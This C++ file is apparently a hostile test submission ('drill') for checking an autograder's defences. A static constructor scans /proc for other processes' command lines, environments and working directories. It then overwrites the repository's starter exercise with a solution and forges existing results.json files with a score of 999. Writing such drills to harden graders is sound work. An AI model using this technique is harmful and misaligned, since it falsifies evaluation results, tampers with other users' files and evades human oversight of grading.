// Hostile drill 01: stub functions; a static constructor hunts for the repository
// through /proc/self/{cmdline,environ}, /proc/<ppid>/{cmdline,cwd,environ},
// /proc/*/cwd and the environment, and writes a working solution over the untouched
// starter so that the NEXT student's starter passes. Right verdict: FAIL, and
// exercises/01_exclusive_to_inclusive.cpp unchanged. (Bounded: it writes only into
// the repository named @REPO@, so a trial on a scratch copy can only change the copy,
// and it replaces results.json only where one already exists.)

#include <cstddef>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <dirent.h>
#include <limits.h>
#include <string>
#include <unistd.h>
#include <vector>

namespace {
const char kSolution[] = R"SOL(// planted by h_proc_snoop_writes_repo
#include <cstddef>
void exclusive_to_inclusive(const long long* in, const long long* excl, long long* incl, std::size_t n) {
    for (std::size_t i = 0; i < n; ++i) incl[i] = excl[i] + in[i];
}
void inclusive_to_exclusive(const long long* incl, long long* excl, std::size_t n) {
    for (std::size_t i = 0; i < n; ++i) excl[i] = i == 0 ? 0 : incl[i - 1];
}
long long total_from_exclusive(const long long* in, const long long* excl, std::size_t n) {
    return n == 0 ? 0 : excl[n - 1] + in[n - 1];
}
)SOL";

const char kForged[] =
    "{\"score\": 999, \"output\": \"forged by h_proc_snoop_writes_repo\", \"tests\": [{\"name\": "
    "\"exclusive_to_inclusive\", \"score\": 999, \"max_score\": 1, \"status\": \"passed\", \"output\": \"\", "
    "\"visibility\": \"visible\"}]}\n";

std::string realPath(const std::string& p) {
    char buf[PATH_MAX];
    return realpath(p.c_str(), buf) ? std::string(buf) : std::string();
}

void writeFile(const std::string& path, const char* text) {
    if (std::FILE* f = std::fopen(path.c_str(), "w")) {
        std::fputs(text, f);
        std::fclose(f);
    }
}

bool exists(const std::string& path) { return access(path.c_str(), F_OK) == 0; }

int planted = 0;

// Every ancestor of a path-looking string; the one that is the repository gets the solution.
void consider(const std::string& text) {
    static const std::string repo = realPath("@REPO@");
    std::size_t start = 0;
    while (start <= text.size()) {
        std::size_t end = text.find_first_of(":= ", start);
        if (end == std::string::npos) end = text.size();
        std::string path = text.substr(start, end - start);
        start = end + 1;
        while (path.size() > 1 && path[0] == '/') {
            const std::string real = realPath(path);
            if (!repo.empty() && real == repo && exists(real + "/exercises/01_exclusive_to_inclusive.cpp")) {
                writeFile(real + "/exercises/01_exclusive_to_inclusive.cpp", kSolution);
                ++planted;
            }
            const std::size_t slash = path.rfind('/');
            path = path.substr(0, slash == 0 ? 1 : slash);
        }
    }
}

std::vector<std::string> nulSeparated(const std::string& path) {
    std::vector<std::string> parts;
    if (std::FILE* f = std::fopen(path.c_str(), "rb")) {
        std::string cur;
        int c;
        while ((c = std::fgetc(f)) != EOF) {
            if (c == 0) {
                parts.push_back(cur);
                cur.clear();
            } else {
                cur.push_back(char(c));
            }
        }
        if (!cur.empty()) parts.push_back(cur);
        std::fclose(f);
    }
    return parts;
}

std::string link(const std::string& path) {
    char buf[PATH_MAX];
    const ssize_t got = readlink(path.c_str(), buf, sizeof buf - 1);
    return got > 0 ? std::string(buf, std::size_t(got)) : std::string();
}

void snoop() {
    const std::string parent = "/proc/" + std::to_string(getppid());
    for (const char* file : {"/proc/self/cmdline", "/proc/self/environ"}) {
        for (const std::string& s : nulSeparated(file)) consider(s);
    }
    for (const std::string& s : nulSeparated(parent + "/cmdline")) consider(s);
    for (const std::string& s : nulSeparated(parent + "/environ")) consider(s);
    consider(link(parent + "/cwd"));
    consider(link("/proc/self/cwd"));
    for (char** e = environ; *e; ++e) consider(*e);
    if (DIR* proc = opendir("/proc")) {
        while (dirent* entry = readdir(proc)) {
            if (entry->d_name[0] < '0' || entry->d_name[0] > '9') continue;
            const std::string cwd = link(std::string("/proc/") + entry->d_name + "/cwd");
            if (cwd.empty()) continue;
            consider(cwd);
            // Only a results.json that is already there (the grader's) is replaced.
            if (exists(cwd + "/results.json")) writeFile(cwd + "/results.json", kForged);
        }
        closedir(proc);
    }
    // And the repository by the path a student could guess.
    consider("@REPO@/harness/grade.py");
}

struct Snoop {
    Snoop() { snoop(); }
} snooper;
}  // namespace

void exclusive_to_inclusive(const long long*, const long long*, long long*, std::size_t) {}
void inclusive_to_exclusive(const long long*, long long*, std::size_t) {}
long long total_from_exclusive(const long long*, const long long*, std::size_t) { return planted; }
